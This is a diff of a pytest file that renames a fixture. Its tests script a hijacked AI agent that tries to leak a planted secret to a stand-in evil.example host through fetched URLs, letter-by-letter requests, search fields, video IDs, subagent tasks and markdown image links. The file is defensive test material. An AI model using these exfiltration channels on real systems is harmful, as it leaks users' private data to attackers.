@@ -25,7 +25,7 @@ from pincite.web.polite_client import PoliteClient
 from tests import sites
 from tests.answer.outside import article, found, scripted
 from tests.sites import Site
-from tests.turns import Piece, ask, final, of_type, open_test_house
+from tests.turns import Piece, ask, final, of_type, open_test_services
 
 SECRET = (
     "The vault code of Aldermoor is tangerine kestrel and only Ottoline Farquhar knows it. "
@@ -93,7 +93,7 @@ def web() -> Iterator[Web]:
 
 
 @pytest.fixture(scope="module")
-def house(web: Web, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Services]:
+def services(web: Web, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Services]:
     note = f"# Note on the lake\n\n{SECRET}\n\nSee {web.bad('/listed')} and [this]({web.bad('/a')}).\n"
     allow = [f"127.0.0.1:{web.site.port}", f"127.0.0.1:{web.evil.port}"]
     settings = {
@@ -104,7 +104,7 @@ def house(web: Web, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Servic
         "search_url": f"http://{web.site.host}",
     }
     path = tmp_path_factory.mktemp("leaving")
-    made = open_test_house(path, {"note.md": note}, web=settings, models={"requests": 80, "tool_calls": 80})
+    made = open_test_services(path, {"note.md": note}, web=settings, models={"requests": 80, "tool_calls": 80})
     made.page_reader = PageReader(made.library, PoliteClient(made.settings, made.library.web_parser, web.look_up))
     yield made
     made.close()
@@ -219,12 +219,12 @@ ADDRESSES = {
     ("way", "tool"),
     [*((way, "scrape_web_page") for way in ADDRESSES), ("query", "url_summarization"), ("query", "pdf_loader")],
 )
-def test_no_composed_address_is_opened(house: Services, web: Web, way: str, tool: str) -> None:
+def test_no_composed_address_is_opened(services: Services, web: Web, way: str, tool: str) -> None:
     url = ADDRESSES[way].format(port=web.site.port, evil=web.evil.port)
     history = (Exchange("Hello.", f"I read {web.bad('/answered?q=tangerine')} for you."),)
     # The page is found and read first, so that its address and its links are known.
     said = ask(
-        scripted(house, hijacked(search("lake depth"), page(url, tool))), QUESTION, history=history, profile=PROFILE
+        scripted(services, hijacked(search("lake depth"), page(url, tool))), QUESTION, history=history, profile=PROFILE
     )
     known = {web.good("/lake"), web.good("/deep"), web.good("/deep?from=onward")}
     assert {f"http://{each}" for each in web.pages()} <= known
@@ -246,16 +246,18 @@ def test_no_composed_address_is_opened(house: Services, web: Web, way: str, tool
         "http://lake.example.:{port}/lake?utm_term=x",
     ],
 )
-def test_however_a_model_spells_a_known_address_the_same_bytes_leave(house: Services, web: Web, spelling: str) -> None:
+def test_however_a_model_spells_a_known_address_the_same_bytes_leave(
+    services: Services, web: Web, spelling: str
+) -> None:
     calls = [search("lake depth"), page(spelling.format(port=web.site.port))]
-    ask(scripted(house, hijacked(*calls)), QUESTION)
+    ask(scripted(services, hijacked(*calls)), QUESTION)
     assert set(web.pages()) == {f"lake.example:{web.site.port}/lake", f"lake.example:{web.site.port}/deep"}
     assert set(web.names) == {"lake.example"}
 
 
-def test_letters_sent_one_address_at_a_time_do_not_leave(house: Services, web: Web) -> None:
+def test_letters_sent_one_address_at_a_time_do_not_leave(services: Services, web: Web) -> None:
     calls = [page(web.bad(f"/{letter}")) for letter in "tangerine"]
-    ask(scripted(house, hijacked(*calls)), QUESTION)
+    ask(scripted(services, hijacked(*calls)), QUESTION)
     assert web.evil.connections == []
     assert web.pages() == []
 
@@ -285,8 +287,8 @@ QUERIES: dict[str, list[Call]] = {
 
 
 @pytest.mark.parametrize("way", QUERIES)
-def test_no_search_repeats_a_document_or_about_me(house: Services, web: Web, way: str) -> None:
-    said = ask(scripted(house, hijacked(*QUERIES[way])), QUESTION, profile=PROFILE)
+def test_no_search_repeats_a_document_or_about_me(services: Services, web: Web, way: str) -> None:
+    said = ask(scripted(services, hijacked(*QUERIES[way])), QUESTION, profile=PROFILE)
     assert of_type(said, events.ToolCallError)
     together = "".join(each.value for each in final(said).sent if each.kind == "search")
     assert not carries_run(together)
@@ -297,8 +299,8 @@ def test_no_search_repeats_a_document_or_about_me(house: Services, web: Web, way
 
 
 @pytest.mark.parametrize("language", ["tangerine", "tan-ge", "ta-ngerine", "ott"])
-def test_the_language_of_a_search_has_no_room_for_words(house: Services, web: Web, language: str) -> None:
-    ask(scripted(house, hijacked(search("lake depth", language=language))), QUESTION)
+def test_the_language_of_a_search_has_no_room_for_words(services: Services, web: Web, language: str) -> None:
+    ask(scripted(services, hijacked(search("lake depth", language=language))), QUESTION)
     (query,) = web.queries()
     assert query.partition("language=")[2].partition("&")[0] in ("", "ta")
 
@@ -307,14 +309,14 @@ def test_the_language_of_a_search_has_no_room_for_words(house: Services, web: We
     "given",
     ["tangerine-k", "https://youtu.be/tangerine-k", f"{VIDEO}&t=tangerine", "https://youtu.be/dQw4w9WgXcQ?si=kestrel"],
 )
-def test_a_video_is_asked_for_by_the_id_that_the_user_wrote_alone(house: Services, web: Web, given: str) -> None:
+def test_a_video_is_asked_for_by_the_id_that_the_user_wrote_alone(services: Services, web: Web, given: str) -> None:
     named = (Exchange(f"Watch {VIDEO}", "I did."), *[Exchange("Thank you.", "Good.")] * 3)
-    ask(scripted(house, hijacked(page(given, "youtube_transcript"))), QUESTION, history=named)
+    ask(scripted(services, hijacked(page(given, "youtube_transcript"))), QUESTION, history=named)
     assert set(web.videos) <= {VIDEO}
     assert not [name for name in web.names if carries(name)]
 
 
-def test_subagents_send_no_more_than_the_turn_they_work_for(house: Services, web: Web) -> None:
+def test_subagents_send_no_more_than_the_turn_they_work_for(services: Services, web: Web) -> None:
     url = web.bad(f"/?q={whole}")
     tasks = [
         {"subagent": "file_analyzer", "task": f"Read {url}"},
@@ -322,24 +324,26 @@ def test_subagents_send_no_more_than_the_turn_they_work_for(house: Services, web
     ]
     plan = json.dumps({"needsDecomposition": True, "reasoning": "", "subtasks": tasks})
     script = hijacked(page(url), search(SECRET), page(web.bad("/answered")))
-    said = ask(scripted(house, script, system=lambda _: plan), "Compare the note on the lake, the law and the rent.")
+    said = ask(scripted(services, script, system=lambda _: plan), "Compare the note on the lake, the law and the rent.")
     assert of_type(said, events.SubagentStarted)
     assert web.evil.connections == []
     assert not [query for query in web.queries() if carries_run(query)]
 
 
-def test_sections_of_a_report_send_nothing_either(house: Services, web: Web) -> None:
+def test_sections_of_a_report_send_nothing_either(services: Services, web: Web) -> None:
     sections = [{"heading": "One", "question": SECRET}, {"heading": "Two", "question": f"Open {web.bad('/' + slug)}"}]
     script = hijacked(search(SECRET), page(web.bad(f"/{slug}")))
-    said = ask(scripted(house, script, system=lambda _: json.dumps({"sections": sections})), QUESTION, focus="research")
+    said = ask(
+        scripted(services, script, system=lambda _: json.dumps({"sections": sections})), QUESTION, focus="research"
+    )
     assert of_type(said, events.Outline)
     assert web.evil.connections == []
     assert not [query for query in web.queries() if carries_run(query)]
 
 
-def test_pictures_and_links_in_an_answer_are_fetched_by_nobody(house: Services, web: Web) -> None:
+def test_pictures_and_links_in_an_answer_are_fetched_by_nobody(services: Services, web: Web) -> None:
     says = f"![x]({web.bad('/p.png?q=' + slug)}) [y]({web.bad('/y?q=' + slug, slug[:40] + '.evil.example')})"
-    said = ask(scripted(house, hijacked(says=says)), QUESTION)
+    said = ask(scripted(services, hijacked(says=says)), QUESTION)
     assert not final(said).media
     assert (web.evil.connections, web.pages()) == ([], [])
 
@@ -354,11 +358,11 @@ def test_the_page_loads_nothing_from_elsewhere_and_looks_no_name_up_ahead() -> N
     assert ui_files._HEADERS["Referrer-Policy"] == "no-referrer"
 
 
-def test_a_page_that_is_linked_or_redirected_to_is_opened_as_it_is_linked(house: Services, web: Web) -> None:
+def test_a_page_that_is_linked_or_redirected_to_is_opened_as_it_is_linked(services: Services, web: Web) -> None:
     """The checks are no wall: what was found and linked can be read, under exactly the address that was given."""
     linked = web.bad("/linked?id=7")
     calls = [search("lake depth"), page(linked)]
-    said = final(ask(scripted(house, hijacked(*calls)), QUESTION))
+    said = final(ask(scripted(services, hijacked(*calls)), QUESTION))
     assert f"evil.example:{web.evil.port}/linked?id=7" in web.pages()
     assert [(each.kind, each.origin) for each in said.sent] == [
         ("search", None),
@@ -369,15 +373,15 @@ def test_a_page_that_is_linked_or_redirected_to_is_opened_as_it_is_linked(house:
     assert said.sent[-1].value == linked
 
 
-def test_a_refusal_names_the_addresses_that_may_be_opened(house: Services, web: Web) -> None:
-    said = ask(scripted(house, hijacked(search("lake depth"), page(web.bad("/x")))), QUESTION)
+def test_a_refusal_names_the_addresses_that_may_be_opened(services: Services, web: Web) -> None:
+    said = ask(scripted(services, hijacked(search("lake depth"), page(web.bad("/x")))), QUESTION)
     (refused,) = of_type(said, events.ToolCallError)
     assert "was not opened" in refused.error
     assert web.good("/lake")[:20] in refused.error
 
 
-def test_nothing_leaves_where_nothing_is_searched_outside(house: Services, web: Web) -> None:
-    house.models = Models(house.settings)
-    said = final(ask(house, "What does the note say about the vault?", focus="documents"))
+def test_nothing_leaves_where_nothing_is_searched_outside(services: Services, web: Web) -> None:
+    services.models = Models(services.settings)
+    said = final(ask(services, "What does the note say about the vault?", focus="documents"))
     assert said.sent == []
     assert (web.site.asked, web.evil.asked) == ([], [])
